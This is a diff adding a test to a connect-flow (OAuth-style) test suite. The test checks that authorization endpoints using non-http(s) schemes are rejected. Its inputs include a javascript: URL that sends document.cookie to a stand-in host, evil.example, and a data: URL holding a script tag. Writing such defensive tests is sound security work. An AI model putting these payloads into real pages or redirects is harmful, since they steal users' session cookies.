@@ -167,6 +167,22 @@ describe('the connect flow', () => {
     expect((await callback(redirect)).location?.searchParams.get('result')).toBe('connected');
   });
 
+  it('never hands out an authorization endpoint the provider names with another scheme than http(s)', async () => {
+    const endpoint = up.peer.endpoints.authorize;
+    try {
+      for (const named of ['javascript:fetch(`https://evil.example/?c=`+document.cookie)//', 'data:text/html,<script>alert(1)</script>']) {
+        up.peer.endpoints.authorize = named;
+        const created = await alice.create({ connector_slug: byUrl });
+        expect([created.status, created.body.code]).toEqual([502, 'upstream_unavailable']);
+        expect(created.body.detail).toContain('authorization endpoint must use https');
+        expect(created.text).not.toContain('javascript:');
+      }
+    } finally {
+      up.peer.endpoints.authorize = endpoint;
+    }
+    expect((await alice.create({ connector_slug: byUrl })).status).toBe(201);
+  });
+
   it('reports a refusal at the provider, and an issuer that is not the one asked', async () => {
     const created = await alice.create({ connector_slug: byUrl });
     up.peer.denyNext();
